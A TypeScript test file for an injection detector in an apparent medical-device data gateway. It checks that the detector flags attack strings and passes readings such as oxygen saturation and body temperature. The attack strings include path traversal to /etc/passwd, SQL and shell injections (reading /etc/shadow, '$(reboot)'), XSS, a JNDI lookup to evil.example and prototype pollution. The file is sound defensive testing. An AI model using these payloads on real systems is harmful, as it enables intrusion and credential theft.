import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { injectionIn } from '../../../gateway/core/injection.ts';

describe('text that is written to be run', () => {
  it.each([
    ['path-traversal', '/api/v1/../../etc/passwd'],
    ['path-traversal', '/%2e%2e%2fetc/passwd'],
    ['sql', "admin' OR '1'='1"],
    ['sql', "x' ; drop table finding"],
    ['shell', '{"unit":"%; cat /etc/shadow"}'],
    ['shell', '$(reboot)'],
    ['html', '<script>alert(1)</script>'],
    ['lookup', `\${jndi:ldap://evil.example/a}`],
    ['prototype', '{"__proto__":{"isAdmin":true}}'],
  ])('is known as %s', (pattern, text) => {
    expect(injectionIn(text)).toBe(pattern);
  });

  it.each([
    '{"seq":1,"at":"2026-11-22T10:00:00.000Z","values":{"MDC_PULS_OXIM_SAT_O2":97}}',
    '/api/v1/devices/mon-1/observations?count=5&since=2026-11-22T10:00:00%2B01:00',
    '/favicon.ico',
    'O|1|4711^01||^^^GLU|R||20261122100000',
    '{"values":{"MDC_TEMP_BODY":{"value":36.6,"unit":"°C"}}}',
  ])('is not %s', (text) => {
    expect(injectionIn(text)).toBeUndefined();
  });

  it('is looked for in bounded time, whatever the text is', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 20_000 }), (text) => {
        injectionIn(text);
      }),
    );
    expect(injectionIn(`${'a'.repeat(5_000)}<script>`)).toBeUndefined();
  });
});
